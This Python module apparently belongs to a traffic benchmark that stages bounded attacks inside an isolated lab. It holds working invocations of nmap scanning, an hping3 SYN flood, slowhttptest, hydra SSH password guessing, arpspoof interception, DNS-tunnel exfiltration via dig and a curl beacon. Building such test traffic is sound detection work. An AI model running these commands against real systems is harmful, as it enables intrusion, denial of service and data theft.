"""The attacks, each by the program that attackers use, from one of the clients; bounded in count and in time.

They can reach nothing but the laboratory: its hosts have no route to anywhere else.
"""

from __future__ import annotations

import base64
import random
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from benchmarks.traffic.network import HOSTS, Network
from benchmarks.traffic.servers import ZONE


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    victim: str  # host that is attacked
    longest: float  # s, at which it is ended
    run: Callable[[Network, Path, random.Random, str, float], None]  # attacker and seconds last


def port_scan(network: Network, _folder: Path, _chance: random.Random, attacker: str, seconds: float) -> None:
    """The 1,000 usual ports of the file server, 100 a second at most."""
    network.run(attacker, "nmap", "-sS", "-Pn", "-n", "--max-rate", "100", HOSTS["files"], seconds=seconds)


def syn_flood(network: Network, _folder: Path, _chance: random.Random, attacker: str, seconds: float) -> None:
    """5,000 SYNs to the web server, 500 a second."""
    network.run(
        attacker, "hping3", "-q", "-n", "-S", "-p", "80", "-i", "u2000", "-c", "5000", HOSTS["web"], seconds=seconds
    )


def slow_http(network: Network, _folder: Path, _chance: random.Random, attacker: str, seconds: float) -> None:
    """60 connections to the web server whose headers never end, 10 a second, a line each 5 s."""
    network.run(
        attacker, "slowhttptest", "-H", "-c", "60", "-r", "10", "-i", "5", "-l", f"{seconds - 3:.0f}", "-p", "3",
        "-u", f"http://{HOSTS['web']}/", seconds=seconds,
    )  # fmt: skip


def password_guessing(network: Network, folder: Path, chance: random.Random, attacker: str, seconds: float) -> None:
    """At most 300 passwords that nobody has, for root at the file server, 8 at a time."""
    words = folder / "words"
    words.write_text("\n".join(f"{chance.randrange(10**9):09d}" for _ in range(300)), encoding="ascii")
    network.run(
        attacker, "hydra", "-l", "root", "-P", str(words), "-t", "8", f"ssh://{HOSTS['files']}", seconds=seconds
    )


def arp_spoofing(network: Network, _folder: Path, _chance: random.Random, attacker: str, seconds: float) -> None:
    """The database's address is claimed, so that what goes there from a client passes through the attacker."""
    victim = next(host for host in HOSTS if host.startswith("client") and host != attacker)
    forward = "net.ipv4.ip_forward"
    network.run(attacker, "sysctl", "-qw", f"{forward}=1", seconds=5)
    try:
        network.run(attacker, "arpspoof", "-i", "eth0", "-t", HOSTS[victim], "-r", HOSTS["database"], seconds=seconds)
    finally:
        network.run(attacker, "sysctl", "-qw", f"{forward}=0", seconds=5)


def dns_exfiltration(network: Network, _folder: Path, chance: random.Random, attacker: str, seconds: float) -> None:
    """At most 150 questions whose names carry 70 bytes of a file each, about 5 a second."""
    end = time.monotonic() + seconds
    for number in range(150):
        if time.monotonic() >= end:
            return
        text = base64.b32encode(chance.randbytes(70)).decode().rstrip("=").lower()
        name = f"{number}.{text[:56]}.{text[56:]}.x.{ZONE}"
        network.run(attacker, "dig", f"@{HOSTS['names']}", "+short", "+tries=1", name, "TXT", seconds=2)
        time.sleep(0.17)


def beacon(network: Network, _folder: Path, _chance: random.Random, attacker: str, seconds: float) -> None:
    """A call home each 5 s: a small POST, to the same place."""
    begun = time.monotonic()
    count = 0
    while (count + 1) * 5 < seconds:
        network.run(
            attacker, "curl", "-s", "-o", "/dev/null", "-d", "id=4711&state=waiting", f"http://{HOSTS['web']}/c",
            seconds=3,
        )  # fmt: skip
        count += 1
        time.sleep(max(0.0, begun + count * 5 - time.monotonic()))


ATTACKS = (
    Attack("port scan", "files", 30, port_scan),
    Attack("SYN flood", "web", 20, syn_flood),
    Attack("slow HTTP", "web", 35, slow_http),
    Attack("password guessing", "files", 45, password_guessing),
    Attack("ARP spoofing", "database", 30, arp_spoofing),
    Attack("DNS exfiltration", "names", 40, dns_exfiltration),
    Attack("beacon", "web", 60, beacon),
)
